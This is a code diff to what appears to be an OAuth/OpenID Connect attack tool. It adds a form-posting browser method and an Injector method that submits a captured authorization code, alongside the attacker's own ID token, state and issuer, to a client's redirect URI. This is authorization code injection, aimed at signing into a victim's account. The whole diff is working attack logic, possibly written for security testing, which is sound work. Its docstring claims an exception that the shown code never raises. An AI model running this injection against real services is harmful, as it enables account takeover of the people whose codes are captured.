@@ -19,6 +19,10 @@ class Browser(Protocol):
         """Go to an address."""
         ...
 
+    async def post(self, url: str, fields: dict[str, str]) -> Any:
+        """Send a form of one's own making."""
+        ...
+
     async def sign_in(self, url: str) -> Any:
         """Go to an address, sign in with the own account, and stop before the redirect back."""
         ...
@@ -120,6 +124,17 @@ class Injector:
         if code is None:
             return
         await self.browser.open(self.answer_with(code, state))
+
+    async def inject_into_own_form(self, code: LootItem | None) -> None:
+        """Send the form that ended :meth:`sign_in`, with a captured code in place of its own.
+
+        OpenID Connect Core section 3.3.2.5: beside the code it has an ID token. Raises
+        :class:`attacker.loot.NothingCapturedError`.
+        """
+        if code is not None:
+            own = (self._loot.find(kind, Leg.OWN) for kind in ("id_token", "state", "iss"))
+            form = {each.kind: each.value for each in (code, *own) if each is not None}
+            await self.browser.post(self._redirect_uri, form)
 
     def answer_with(self, code: LootItem, state: LootItem | None) -> str:
         """The redirect that brings a code to the client, as the provider would write it."""
